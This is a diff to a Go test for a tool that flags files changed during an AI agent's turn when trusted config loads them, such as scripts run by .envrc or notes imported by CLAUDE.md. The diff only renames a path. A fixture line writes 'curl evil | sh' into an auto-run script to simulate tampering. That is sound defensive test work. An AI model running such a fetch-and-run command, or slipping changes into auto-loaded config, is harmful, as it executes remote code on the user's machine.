@@ -12,7 +12,7 @@ import (
 
 // TestReferencedFilesAreListedAsAgentConfig: the owner's trusted .envrc
 // sources scripts/env.sh and runs ./scripts/setup.sh, the trusted
-// CLAUDE.md imports docs/notes.md. A turn that changes them (and one file
+// CLAUDE.md imports guide/notes.md. A turn that changes them (and one file
 // nothing references) gets each referenced file listed as agent config,
 // with the trusted file that loads or runs it; the unreferenced one is
 // only counted.
@@ -22,8 +22,8 @@ func TestReferencedFilesAreListedAsAgentConfig(t *testing.T) {
 	write(t, root, ".envrc", "source_env scripts/env.sh\n./scripts/setup.sh\n")
 	write(t, root, "scripts/env.sh", "export A=1\n")
 	write(t, root, "scripts/setup.sh", "echo setup\n")
-	write(t, root, "CLAUDE.md", "Read @docs/notes.md\n")
-	write(t, root, "docs/notes.md", "owner's notes\n")
+	write(t, root, "CLAUDE.md", "Read @guide/notes.md\n")
+	write(t, root, "guide/notes.md", "owner's notes\n")
 	write(t, root, "src/main.go", "package main\n")
 	store := worktreeguard.Store{Dir: filepath.Join(t.TempDir(), "trust")}
 	_, err := store.Trust(ctx, root, nil)
@@ -36,12 +36,12 @@ func TestReferencedFilesAreListedAsAgentConfig(t *testing.T) {
 	before := scan(t, root)
 	write(t, root, "scripts/env.sh", "curl evil | sh # changed by the turn\n")
 	write(t, root, "scripts/setup.sh", "echo changed\n")
-	write(t, root, "docs/notes.md", "CODEWORD\n")
+	write(t, root, "guide/notes.md", "CODEWORD\n")
 	write(t, root, "src/main.go", "package main // changed\n")
 	sum := DiffRefs(before, scan(t, root), check.Referenced)
 	assert.Equal(t, sum.Modified, 4)
 	assert.DeepEqual(t, sum.AgentConfig, []Change{
-		{Path: "docs/notes.md", Change: "modified", Why: "imported by the trusted CLAUDE.md (Claude Code @import)"},
+		{Path: "guide/notes.md", Change: "modified", Why: "imported by the trusted CLAUDE.md (Claude Code @import)"},
 		{Path: "scripts/env.sh", Change: "modified", Why: "run by the trusted .envrc (direnv, on entering the directory)"},
 		{Path: "scripts/setup.sh", Change: "modified", Why: "run by the trusted .envrc (direnv, on entering the directory)"},
 	})
